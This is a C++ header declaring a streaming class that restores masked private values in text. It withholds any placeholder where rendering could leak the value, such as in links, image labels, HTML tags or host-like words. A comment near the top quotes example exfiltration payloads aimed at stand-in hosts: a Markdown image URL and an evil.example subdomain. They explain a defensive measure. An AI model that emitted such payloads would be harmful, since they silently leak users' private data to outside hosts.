#pragma once

#include <cstddef>
#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "client/privacy/request_mask.h"

namespace edgedraft::client {

// A text with placeholders, restored for its reader. Placeholders stay if the reader's program
// might send the value on by itself: a hostile target would write ![](https://evil/?[NAME_001]) or
// [NAME_001].evil.example. They stay within links, picture labels, HTML tags and words with "//".
// They also stay in words with a dot, slash, question mark, colon or @ after a letter. Placeholders
// that were never assigned stay, too.
class RestoredText {
 public:
  // Bounds restored bytes if a hostile target repeats long values; further placeholders stay.
  static constexpr std::size_t kValueBytesMax = 4u << 20;

  // `placeholders` must outlive it. `in_json`: the text is JSON, and placeholders are in its
  // strings. A reader may show it raw or decoded, so a placeholder stays if either form might send
  // its value on. `before` is the preceding text, with placeholders, in which a link may have
  // begun. It is not returned, and revise() does not count it. Several continuations of one text
  // can each use a copy.
  explicit RestoredText(const Placeholders& placeholders, bool in_json = false,
                        std::string_view before = {});

  struct Piece {
    std::string text;
    // First drop shown text after this many characters (code points).
    std::optional<std::size_t> revise_from{};
  };
  // Takes the next piece. Holds back a possible start of a placeholder.
  Piece push(std::string_view masked);
  // Keeps only this many characters of the text so far; push() adds the replacement.
  void revise(std::size_t characters);
  // Ends the text: returns what was held back.
  Piece finish();

  // All text returned so far.
  const std::string& text() const { return shown_; }

 private:
  // Parser state at the end of the text, as a reader's program would see it. It follows
  // placeholders, not values, because a client that sends the text back reveals which stayed.
  struct Place {
    enum class TagPart : unsigned char {
      name,
      gap,               // before an attribute
      attribute,         // in its name
      behind_attribute,  // blanks after the name
      value_begin,       // after '='; a quotation mark opens a value only here
      value,             // a value without quotation marks
    };

    char before = '\n';
    char line_last = 0;  // last non-blank character of the line; 0: none
    bool in_tag = false;
    TagPart tag_part = TagPart::name;
    char quote = 0;               // around an attribute's value
    bool tag_has_quotes = false;  // anywhere in it
    bool tag_in_doubt = false;    // readers may disagree on where it ends, or see another tag in it
    int target_depth = 0;         // parentheses of a Markdown link's target; 0: none
    bool target_angled = false;   // it may be within <...>
    bool in_definition = false;   // inside a link definition, [name]: target
    bool definition_begun = false;  // the target has begun
    // Open brackets of a label that may select a definition, as in ![x] or [x][y]; 0: none.
    int label_depth = 0;
    bool label_may_follow = false;  // only blanks since a ']'
    bool in_sentence = false;       // directly after a value that follows a word
    bool word_links = false;        // it contains "//", "http:", "https:" or "www."
    std::string word_tail;          // its last characters
    // `joint`: a dot or colon after a letter in a word, which may continue as a host or as an
    // address without "//". `in_host`, `in_address`: it does; a path may follow.
    char joint = 0;
    bool in_host = false;
    bool in_address = false;
    std::uint32_t last_bytes = 0;    // the last four
    bool backslash_escapes = false;  // as in JSON, a backslash ends a word
    bool runs_on = false;            // after the start of a script or style sheet

    void take(char c);
    void take_in_label(char c);
    void take_in_word(char c);
    void take_in_tag(char c);
    bool is_behind_word() const;
    bool may_be_sent_on() const {
      return runs_on || in_tag || target_depth > 0 || in_definition || label_depth > 0 ||
             word_links || joint != 0 || in_host || in_address;
    }
  };

  // Parser state of the decoded text, with JSON escapes replaced.
  struct DecodedPlace {
    Place place;
    std::string escape;  // incomplete: a backslash and what follows so far

    void take(char c);
  };

  // Both states.
  struct Reading {
    Place place;
    DecodedPlace decoded;  // in JSON
    // True if the text is one line of JSON so far that begins like an object: shown raw, it cannot
    // define a link. Empty before the first character.
    std::optional<bool> defines_nothing{};
  };

  void read_again();
  void read(bool whole);
  void take(char c);
  std::optional<bool> begins_address(std::size_t at, bool whole) const;
  void take_placeholder(std::string_view placeholder, bool stays);
  Piece take_piece();

  const Placeholders& placeholders_;
  bool in_json_;
  std::string masked_;    // received text
  std::size_t read_ = 0;  // bytes of it that are processed
  std::string restored_;  // restored text
  std::size_t value_bytes_ = 0;
  bool revised_ = false;  // since the last returned piece
  std::string shown_;     // returned part of it
  Reading start_;         // state after `before`
  Reading at_;
};

// Restores a whole text, on its own or from an unused `start`.
std::string restored(std::string_view masked, const Placeholders& placeholders,
                     bool in_json = false);
std::string restored(std::string_view masked, RestoredText start);

}  // namespace edgedraft::client
